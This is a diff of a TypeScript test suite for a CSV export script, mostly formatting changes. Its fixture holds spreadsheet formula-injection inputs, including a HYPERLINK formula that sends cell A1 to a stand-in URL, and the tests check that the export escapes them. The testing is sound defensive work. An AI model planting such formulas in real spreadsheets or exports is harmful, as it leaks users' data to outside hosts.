@@ -17,7 +17,10 @@ function project() {
   return root;
 }
 function cli(root: string, script: "export" | "import", args: string[]) {
-  const result = spawnSync(process.execPath, ["--import", TSX_IMPORT, path.join(REPO_ROOT, `scripts/${script}.ts`), ...args], { cwd: root, encoding: "utf8" });
+  const result = spawnSync(process.execPath, ["--import", TSX_IMPORT, path.join(REPO_ROOT, `scripts/${script}.ts`), ...args], {
+    cwd: root,
+    encoding: "utf8",
+  });
   return { status: result.status, stdout: result.stdout, stderr: result.stderr };
 }
 const read = (root: string, file: string) => readFileSync(path.join(root, "exports", file), "utf8");
@@ -31,7 +34,7 @@ const HOSTILE = {
   pillar: "awareness",
   activityType: "dialogue",
   forum: "online",
-  title: { id: "=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")", en: "-2+3 @(1)" },
+  title: { id: '=HYPERLINK("http://example.org/?"&A1,"klik")', en: "-2+3 @(1)" },
   participants: { total: 9, women: 4, men: 5 },
   partners: ["+Kesbangpol", "@(1) Puskesmas"],
   notes: { id: "Baris pertama\n=1+1\n\t-tab\n'=sudah ada apostrof", en: "@(1)+1" },
@@ -49,8 +52,12 @@ describe("npm run export", () => {
       expect(text.startsWith("\uFEFF")).toBe(true);
       expect(text.split("\r\n").length).toBeGreaterThan(2);
     }
-    expect(read(root, "kegiatan.csv").split("\r\n")[0]).toBe("\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan;Kategori Forum;Pilar;Judul;Judul (EN);Keterangan (EN);Mitra;Peserta di bawah 25");
-    expect(read(root, "activities.csv").split("\r\n")[0]).toBe("\uFEFFNo,Date,Kelurahan,Activity type,Venue,Participants,Men,Women,Notes (Indonesian),Forum category,Pillar,Title (Indonesian),Title,Notes,Partners,Under 25");
+    expect(read(root, "kegiatan.csv").split("\r\n")[0]).toBe(
+      "\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan;Kategori Forum;Pilar;Judul;Judul (EN);Keterangan (EN);Mitra;Peserta di bawah 25",
+    );
+    expect(read(root, "activities.csv").split("\r\n")[0]).toBe(
+      "\uFEFFNo,Date,Kelurahan,Activity type,Venue,Participants,Men,Women,Notes (Indonesian),Forum category,Pillar,Title (Indonesian),Title,Notes,Partners,Under 25",
+    );
   });
 
   it("gives the same bytes as the site's files under /data/", () => {
@@ -77,17 +84,22 @@ describe("npm run export", () => {
     const hostile = records.find((record) => record.cells[1] === "20/11/2024" && record.cells[2] === "Muncul")!;
     const lines = hostile.cells.flatMap((cell) => cell.split(/\r\n|\n|\r/));
     for (const line of lines) expect(line).not.toMatch(/^[=+\-@\t\r]/);
-    expect(hostile.cells[11]).toBe("'=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")");
+    expect(hostile.cells[11]).toBe('\'=HYPERLINK("http://example.org/?"&A1,"klik")');
     expect(hostile.cells[14]).toBe("'+Kesbangpol\n'@(1) Puskesmas");
     expect(hostile.cells[8]).toBe("Baris pertama\n'=1+1\n'\t-tab\n''=sudah ada apostrof");
   });
 
   it("exports only what the site publishes: no drafts, and case statistics only after suppression", () => {
     const root = project();
-    writeFileSync(path.join(root, "content/activities/2024-11-21-muncul-draft.json"), json({ ...HOSTILE, date: "2024-11-21", title: { id: "Draf rahasia", en: "Secret draft" }, draft: true }));
+    writeFileSync(
+      path.join(root, "content/activities/2024-11-21-muncul-draft.json"),
+      json({ ...HOSTILE, date: "2024-11-21", title: { id: "Draf rahasia", en: "Secret draft" }, draft: true }),
+    );
     expect(cli(root, "export", []).status).toBe(0);
     for (const file of ["kegiatan.csv", "activities.csv"]) expect(read(root, file)).not.toContain("Draf rahasia");
-    const counts = readRecords(read(root, "case-statistics.csv").slice(1), ",").slice(1).map((record) => record.cells[5]!);
+    const counts = readRecords(read(root, "case-statistics.csv").slice(1), ",")
+      .slice(1)
+      .map((record) => record.cells[5]!);
     // No number from 1 to 4 ever appears: those are published as "<5" (or hidden as ×).
     for (const count of counts) expect(count).toMatch(/^(0|[5-9]|\d{2,}|<5|×)$/);
     expect(counts).toContain("<5");
